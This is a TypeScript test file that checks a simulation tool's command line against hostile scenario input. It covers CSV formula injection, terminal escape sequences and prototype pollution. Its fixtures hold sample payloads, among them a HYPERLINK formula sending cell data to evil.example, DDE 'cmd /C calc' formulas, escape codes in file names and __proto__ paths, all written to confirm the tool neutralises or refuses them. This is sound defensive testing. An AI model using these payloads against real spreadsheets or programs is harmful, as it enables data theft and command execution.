// Hostile text in scenarios and arguments (issue 13, point 5), end to end through the command line
// in-process: formula text in every CSV file is neutralised, control characters never reach the
// terminal raw, --set/--param cannot reach Object.prototype, and classes named after Object's
// own members validate and run.
import { describe, expect, it } from 'vitest';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { main } from '../../src/cli/main.js';
import { CHANGE_COLUMNS } from '../../src/run/rows.js';
import { captureCli } from './capture.js';

let dir: string;
let out: string[];
let err: string[];

captureCli('orisim-inject-', (c) => ({ dir, out, err } = c));

/** A short scenario (8 weeks, 2 replications) with these extra top-level lines. */
function scenario(file: string, lines: string[]): string {
  const path = join(dir, file);
  writeFileSync(path, ['horizon: 8w', 'warmup: 1w', 'replications: 2', ...lines, ''].join('\n'));
  return path;
}

/** Cells of a CSV text (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        cell += text.slice(i, q);
        i = q + 1;
        if (text[i] === '"') {
          cell += '"';
          i++;
        } else break;
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\n') cell += text[i++];
    }
    cells.push(cell);
    i++; // the comma or line break after the cell
  }
  return cells;
}

/** Cells a spreadsheet would run as a formula: OWASP's starts, except plain numbers such as -2.5. */
function liveFormulas(text: string): string[] {
  return csvCells(text).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(c));
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const CMD = "+cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)*cmd|\' /C calc\'!A0';

describe('CSV formula injection (issue 13 point 5)', () => {
  it('run: class names and the currency are neutralised in changes.csv, costs.csv and every other CSV file', async () => {
    const file = scenario('formulas.yaml', [
      'name: formulas',
      `currency: ${JSON.stringify(MINUS)}`,
      'classes:',
      `  ${JSON.stringify(HYPERLINK)}: { share: 0.25 }`,
      `  ${JSON.stringify(CMD)}: { share: 0.25 }`,
      `  ${JSON.stringify(AT)}: { share: 0.25 }`,
      `  "\\t=1+1": { share: 0.25 }`,
    ]);
    const target = join(dir, 'out');
    expect(await main(['run', file, '--out', target, '--no-charts', '-q'])).toBe(0);
    const changes = readFileSync(join(target, 'changes.csv'), 'utf8');
    const width = CHANGE_COLUMNS.length;
    const classAt = CHANGE_COLUMNS.indexOf('class');
    const classes = new Set(csvCells(changes.split('\n').slice(1).join('\n')).filter((_c, i) => i % width === classAt));
    expect([...classes].sort()).toEqual([`'\t=1+1`, `'${CMD}`, `'${HYPERLINK}`, `'${AT}`].sort());
    const costs = readFileSync(join(target, 'costs.csv'), 'utf8');
    expect(csvCells(costs)).toContain(`'${MINUS}`);
    const csvFiles = readdirSync(target).filter((f) => f.endsWith('.csv'));
    expect(csvFiles).toEqual(expect.arrayContaining(['by-class.csv', 'by-path.csv', 'changes.csv', 'costs.csv', 'events.csv', 'replications.csv', 'stages.csv', 'wip.csv']));
    const byClass = csvCells(readFileSync(join(target, 'by-class.csv'), 'utf8'));
    for (const c of [`'\t=1+1`, `'${CMD}`, `'${HYPERLINK}`, `'${AT}`]) expect(byClass).toContain(c);
    for (const f of csvFiles) expect(liveFormulas(readFileSync(join(target, f), 'utf8')), f).toEqual([]);
  });

  it('compare: a formula-like scenario name never reaches comparison.csv (the name rule refuses it)', async () => {
    const a = scenario('a.yaml', ['name: "=1+2"']);
    const b = scenario('b.yaml', ['name: b']);
    const target = join(dir, 'cmp');
    expect(await main(['compare', a, b, '--out', target, '--no-charts', '-q'])).toBe(2);
    expect(err.join('')).toContain(`${a}:4:7 name: expected a folder name`);
    expect(existsSync(target)).toBe(false);
  });

  it('sweep: values are neutralised in sweep.csv', async () => {
    const file = scenario('s.yaml', ['name: sweepy']);
    const target = join(dir, 'sw');
    expect(await main(['sweep', file, '--param', 'currency', '--values', '=1+1,-2+3', '--out', target, '--no-charts', '-q'])).toBe(0);
    const csv = readFileSync(join(target, 'sweep.csv'), 'utf8');
    expect(liveFormulas(csv)).toEqual([]);
    expect(csv).toContain("\ncurrency,'=1+1,normal,");
    expect(csv).toContain("\ncurrency,'-2+3,normal,");
  });
});

describe('terminal escapes (issue 13 point 5)', () => {
  const ESC = '\u001b';
  const BEL = '\u0007';
  const CSI8 = '\u009b'; // the 8-bit CSI (C1): JSON.stringify leaves it raw
  /** No C0 control except line breaks, no DEL, no C1 control. */
  // eslint-disable-next-line no-control-regex
  const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

  it('validate and run print names, the currency and the output folder with control characters escaped', async () => {
    const file = scenario(`evil${ESC}]0;pwned${BEL}.yaml`, [
      'name: termname',
      `currency: "GBP\\e[31m\\a"`,
      'classes:',
      `  "small\\e[8m": { share: 1 }`,
    ]);
    expect(await main(['validate', file])).toBe(0);
    expect(out.join('')).toBe(`${join(dir, 'evil\\x1b]0;pwned\\x07.yaml')}: ok (termname: 6 delivery teams, variants normal, preApproved)\n`);
    out.length = 0;
    const target = join(dir, `out${ESC}[2J`);
    expect(await main(['run', file, '--out', target, '--no-charts', '-q'])).toBe(0);
    const stdout = out.join('');
    const stderr = err.join('');
    expect(stdout).toMatch(/^termname: 2 replications, seed 42, 56 days \(warm-up 7\); costs in GBP\\x1b\[31m\\x07; per year: /);
    expect(stderr).toContain(`wrote ${join(dir, 'out\\x1b[2J')}/ (`);
    expect(stdout + stderr).not.toMatch(RAW);
  });

  it('error messages escape the values and keys they echo, C1 controls and DEL included', async () => {
    const file = scenario('bad.yaml', [
      'name: bad',
      'classes:',
      `  "x\\e[2J": { share: 1, failureRate: "\\u009b2J\\x7f" }`,
    ]);
    expect(await main(['validate', file])).toBe(2);
    expect(err.join('')).toBe(
      `${file}:6:38 classes.x\\x1b[2J.failureRate: expected a probability ≥ 0 and < 1 (a change whose every deployment fails never goes live), got "\\x9b2J\\x7f"\n`,
    );
    err.length = 0;
    expect(await main(['run', file, `--set`, `teams.delivery.count=${CSI8}5`, '--out', join(dir, 'o'), '-q'])).toBe(2);
    expect(err.join('')).not.toMatch(RAW);
    expect(err.join('')).toContain('\\x9b5');
  });

  it('usage errors and output-folder errors escape what they echo', async () => {
    expect(await main(['run', `--bogus${ESC}[2J`])).toBe(2);
    expect(err.join('')).not.toMatch(RAW);
    expect(err.join('')).toContain('bogus\\x1b[2J');
    err.length = 0;
    const file = join(dir, `taken${ESC}[2J`);
    writeFileSync(file, 'not a folder');
    expect(await main(['run', '-r', '1', '--out', file, '--no-charts', '-q'])).toBe(2);
    expect(err.join('')).not.toMatch(RAW);
    expect(err.join('')).toContain('taken\\x1b[2J');
  });
});

describe('--set and --param cannot reach Object.prototype (issue 13 point 5)', () => {
  const refused = (arg: string, path: string, key: string): string =>
    `--set ${arg} ${path}: unknown key; "${key}" is never a scenario key (__proto__, constructor and prototype are refused in --set and --param paths)\n`;

  it('refuses __proto__, constructor and prototype path segments with exit 2, and changes nothing', async () => {
    const file = scenario('p.yaml', ['name: p', 'classes:', '  small: { share: 1 }']);
    for (const [arg, path, key] of [
      ['classes.__proto__.failureRate=1', 'classes.__proto__', '__proto__'],
      ['__proto__={seed: 7}', '__proto__', '__proto__'],
      ['constructor.prototype.seed=7', 'constructor', 'constructor'],
      ['teams.delivery.prototype=1', 'teams.delivery.prototype', 'prototype'],
      ['classes.constructor.share=1', 'classes.constructor', 'constructor'],
    ] as const) {
      err.length = 0;
      expect(await main(['run', file, '--set', arg, '--out', join(dir, 'o'), '--no-charts', '-q']), arg).toBe(2);
      expect(err.join(''), arg).toBe(refused(arg, path, key));
    }
    expect(({} as Record<string, unknown>).failureRate).toBeUndefined();
    expect(({} as Record<string, unknown>).seed).toBeUndefined();
  });

  it('a map given as a --set value cannot smuggle in a prototype either', async () => {
    const file = scenario('p.yaml', ['name: p']);
    expect(await main(['run', file, '--set', 'teams={__proto__: {delivery: {count: 1}}}', '--out', join(dir, 'o'), '-q'])).toBe(2);
    expect(err.join('')).toBe(
      '--set teams={__proto__: {delivery: {count: 1}}} teams.__proto__: unknown key; expected one of delivery, changeManagement, applicationSupport, serviceIntroduction\n',
    );
  });

  it('sweep --param refuses them the same way', async () => {
    const file = scenario('p.yaml', ['name: p']);
    expect(await main(['sweep', file, '--param', '__proto__.seed', '--values', '1,2', '--out', join(dir, 'o'), '-q'])).toBe(2);
    // told as the --param the user typed, not as a --set they never gave
    expect(err.join('')).toBe(refused('__proto__.seed=1', '__proto__', '__proto__').replace('--set __proto__.seed=1', '--param __proto__.seed'));
  });
});

describe('classes named after Object members (issue 13 point 5)', () => {
  for (const name of ['constructor', 'toString', 'valueOf', 'hasOwnProperty', '__proto__']) {
    it(`a class named ${name} validates, takes the small defaults and runs`, async () => {
      const file = scenario(`${name}.yaml`, ['name: named', 'classes:', `  ${name}: { share: 0.6 }`, '  large: { share: 0.4 }']);
      expect(await main(['validate', file])).toBe(0);
      expect(err.join('')).toBe('');
      const target = join(dir, 'out');
      expect(await main(['run', file, '--out', target, '--no-charts', '-q'])).toBe(0);
      const summary = JSON.parse(readFileSync(join(target, 'summary.json'), 'utf8'));
      expect(Object.keys(summary.variants.normal.byClass)).toEqual([name, 'large']);
      const classes = new Set(readFileSync(join(target, 'changes.csv'), 'utf8').trim().split('\n').slice(1).map((l) => l.split(',')[3]));
      expect([...classes].sort()).toEqual([name, 'large'].sort());
    });
  }

  it('unit names are looked up as own properties too ("5constructor" is not a duration)', async () => {
    const file = join(dir, 'u.yaml');
    writeFileSync(file, 'name: u\nhorizon: 5constructor\n');
    expect(await main(['validate', file])).toBe(2);
    expect(err.join('')).toBe(`${file}:2:10 horizon: expected a duration with a unit such as 30m, 4h, 2d or 1w, got "5constructor"\n`);
  });
});
